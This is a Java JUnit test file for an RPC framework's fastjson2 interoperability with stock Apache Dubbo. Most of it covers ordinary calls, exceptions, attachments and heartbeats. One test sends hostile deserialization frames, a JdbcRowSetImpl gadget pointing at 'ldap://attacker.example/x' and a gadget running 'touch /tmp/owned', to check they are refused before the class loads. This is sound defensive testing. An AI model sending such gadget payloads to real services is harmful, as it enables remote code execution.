package io.kestrel.rpc.interop.dubbo;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kestrel.rpc.api.RpcContext;
import io.kestrel.rpc.api.config.ProtocolConfig;
import io.kestrel.rpc.api.config.ReferenceConfig;
import io.kestrel.rpc.api.config.ServiceConfig;
import io.kestrel.rpc.core.RpcRuntime;
import io.kestrel.rpc.interop.dubbo.api.Greeter;
import io.kestrel.rpc.interop.dubbo.api.GreetingService;
import io.kestrel.rpc.interop.dubbo.api.Order;
import io.kestrel.rpc.interop.dubbo.api.OrderRejectedException;
import io.kestrel.rpc.testing.Await;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Dubbo 3.3's fastjson2 serialization (its id 23) on the dubbo protocol, against stock Apache Dubbo 3.3.6 in
 * direct mode: a stock consumer sending fastjson2 calls a Kestrel provider that accepts only fastjson2 (so a call
 * that succeeds travelled as fastjson2), a Kestrel reference with serialization fastjson2 calls a stock provider
 * that speaks only fastjson2, and hostile fastjson2 frames are refused before a class they name is loaded.
 */
@Timeout(value = 120, unit = TimeUnit.SECONDS)
class DubboFastjson2Test {
    private static final String SERVICE = GreetingService.class.getName();
    private static RpcRuntime provider;
    private static Greeter greeter;
    private static DubboSide dubboConsumer;
    private static GreetingService fromDubbo;
    private static DubboSide dubboProvider;
    private static RpcRuntime consumer;
    private static GreetingService toDubbo;

    @BeforeAll
    static void start() {
        provider = RpcRuntime.builder().protocol(ProtocolConfig.builder().name("dubbo").host(DubboSide.HOST).port(0)
                .serialization("fastjson2").build()).build();
        greeter = new Greeter("kestrel", k -> RpcContext.current().getAttachment(k),
                (k, v) -> RpcContext.current().setResponseAttachment(k, v));
        provider.export(ServiceConfig.builder(GreetingService.class, (GreetingService) greeter).build());
        dubboConsumer = DubboSide.start("fastjson2-consumer");
        fromDubbo = dubboConsumer.referWith(GreetingService.class, "dubbo://" + DubboSide.HOST + ":"
                + provider.boundPort(), 5000, "fastjson2");

        dubboProvider = DubboSide.start("fastjson2-provider");
        Greeter stock = new Greeter("dubbo",
                k -> org.apache.dubbo.rpc.RpcContext.getServerAttachment().getAttachment(k),
                (k, v) -> org.apache.dubbo.rpc.RpcContext.getServerResponseContext().setAttachment(k, v));
        int port = dubboProvider.export(GreetingService.class, stock, DubboSide.freePort(), "fastjson2");
        // heartbeats every second, so the heartbeat test sees several on a fastjson2 connection in a short idle time
        consumer = RpcRuntime.builder().client(io.kestrel.rpc.api.config.ClientConfig.builder()
                .heartbeatInterval(Duration.ofSeconds(1)).build()).build();
        toDubbo = consumer.refer(ReferenceConfig.builder(GreetingService.class)
                .url("dubbo://" + DubboSide.HOST + ":" + port).serialization("fastjson2")
                .timeout(Duration.ofSeconds(5)).retries(0).build());
    }

    @AfterAll
    static void stop() {
        for (AutoCloseable c : new AutoCloseable[] {dubboConsumer, consumer, dubboProvider, provider}) {
            try {
                if (c != null) {
                    c.close();
                }
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }
    }

    private static Order order(long id) {
        return new Order(id, new Order.Customer("Ada", "ada@example.org"),
                List.of(new Order.Line("pen", 2, new BigDecimal("1.50")), new Order.Line("ink", 1, new BigDecimal("4"))));
    }

    @Test
    void aStockDubboConsumerWithFastjson2CallsKestrel() {
        assertEquals("hello Ada from kestrel", fromDubbo.hello("Ada"));
        assertEquals(42, fromDubbo.add(40, 2L));
        Order placed = fromDubbo.place(order(7));
        assertEquals("accepted by kestrel, total 7.00", placed.getStatus());
        assertEquals(order(7).getCustomer(), placed.getCustomer());
        assertEquals(order(7).getLines(), placed.getLines());
    }

    @Test
    void aDeclaredExceptionReachesTheStockConsumerAsItself() {
        OrderRejectedException e = assertThrows(OrderRejectedException.class, () -> fromDubbo.reject("no stock"));
        assertEquals("no stock", e.reason());
    }

    @Test
    void attachmentsTravelBothWaysWithTheStockConsumer() {
        org.apache.dubbo.rpc.RpcContext.getClientAttachment().setAttachment("tenant", "acme");
        assertEquals("acme", fromDubbo.attachment("tenant"));
        assertEquals("seen acme", org.apache.dubbo.rpc.RpcContext.getServerContext().getAttachment("echo-tenant"));
    }

    @Test
    void aKestrelReferenceWithFastjson2CallsAStockFastjson2Provider() throws Exception {
        assertEquals("hello Ada from dubbo", toDubbo.hello("Ada"));
        assertEquals(42, toDubbo.add(40, 2L));
        Order placed = toDubbo.place(order(8));
        assertEquals("accepted by dubbo, total 7.00", placed.getStatus());
        assertEquals(order(8).getLines(), placed.getLines());
        assertEquals("async hello Grace from dubbo", toDubbo.helloAsync("Grace").get(10, TimeUnit.SECONDS));
        OrderRejectedException e = assertThrows(OrderRejectedException.class, () -> toDubbo.reject("closed"));
        assertEquals("closed", e.reason());
    }

    @Test
    void aHostileFrameNamingANonAllowlistedClassIsRefusedBeforeItIsLoaded() throws Exception {
        int before = greeter.calls.get();
        try (RawDubbo raw = new RawDubbo(DubboSide.HOST, provider.boundPort())) {
            String[][] gadgets = {
                {"com.sun.rowset.JdbcRowSetImpl", "dataSourceName", "ldap://attacker.example/x"},
                {"io.kestrel.rpc.interop.dubbo.Fastjson2Gadget", "command", "touch /tmp/owned"},
            };
            long id = 1;
            for (String[] g : gadgets) {
                // as an argument where an Order is expected, and as an attachment value (read as any value)
                byte[] asArgument = RawFastjson2.body(SERVICE, "place", "Lio/kestrel/rpc/interop/dubbo/api/Order;",
                        Map.of(), RawFastjson2.typed(g[0], g[1], g[2]));
                byte[] inAttachments = RawFastjson2.body(SERVICE, "hello", "Ljava/lang/String;",
                        RawFastjson2.map("tenant", RawFastjson2.typed(g[0], g[1], g[2])), RawFastjson2.value("x"));
                for (byte[] body : new byte[][] {asArgument, inAttachments}) {
                    raw.send(RawDubbo.request(id, RawFastjson2.ID, body));
                    RawDubbo.Response r = raw.read();
                    assertEquals(id++, r.id());
                    assertEquals(40, r.status(), r.text());
                    assertTrue(r.text().contains("Refused to deserialize class " + g[0]), r.text());
                }
            }
        }
        assertNull(System.getProperty("kestrel.test.fastjson2-gadget-initialised"), "the gadget was initialised");
        assertEquals(before, greeter.calls.get(), "the method did not run");
        assertEquals("hello still from kestrel", fromDubbo.hello("still"));
    }

    /**
     * The head strings of a fastjson2 request are read by hand: a head value that is not a JSONB string, or a value
     * length beyond the body, is a bad request answered on the same connection, and nothing runs.
     */
    @Test
    void aFastjson2HeadThatIsNotAStringIsABadRequest() throws Exception {
        int before = greeter.calls.get();
        try (RawDubbo raw = new RawDubbo(DubboSide.HOST, provider.boundPort())) {
            java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
            for (byte[] v : new byte[][] {RawFastjson2.value("2.0.2"), RawFastjson2.value(SERVICE),
                RawFastjson2.value("0.0.0"), RawFastjson2.typed("java.util.HashMap", "k", "v")}) {
                body.writeBytes(java.nio.ByteBuffer.allocate(4).putInt(v.length).array());
                body.writeBytes(v);
            }
            raw.send(RawDubbo.request(31, RawFastjson2.ID, body.toByteArray()));
            RawDubbo.Response r = raw.read();
            assertEquals(40, r.status(), r.text());
            assertTrue(r.text().contains("method name is not a string"), r.text());

            byte[] claimsTooMuch = {0, 0, 0x10, 0, 73 + 1, 'x'};
            raw.send(RawDubbo.request(32, RawFastjson2.ID, claimsTooMuch));
            r = raw.read();
            assertEquals(40, r.status(), r.text());
            assertTrue(r.text().contains("dubbo version claims 4096 bytes, but 2 are left"), r.text());
        }
        assertEquals(before, greeter.calls.get(), "the method did not run");
        assertEquals("hello still from kestrel", fromDubbo.hello("still"));
    }

    /** Our heartbeats (hessian2 null events) are answered by a stock provider that speaks fastjson2 only. */
    @Test
    void heartbeatsKeepAnIdleFastjson2ConnectionToAStockProviderReady() throws Exception {
        assertEquals("hello before from dubbo", toDubbo.hello("before"));
        long read = consumer.inspect().snapshot().client().wire().framesRead();
        Await.until("three heartbeats answered", Duration.ofSeconds(20),
                () -> consumer.inspect().snapshot().client().wire().framesRead() >= read + 3);
        assertEquals("READY", consumer.inspect().connections().get(0).state());
        assertEquals("hello after from dubbo", toDubbo.hello("after"));
    }
}
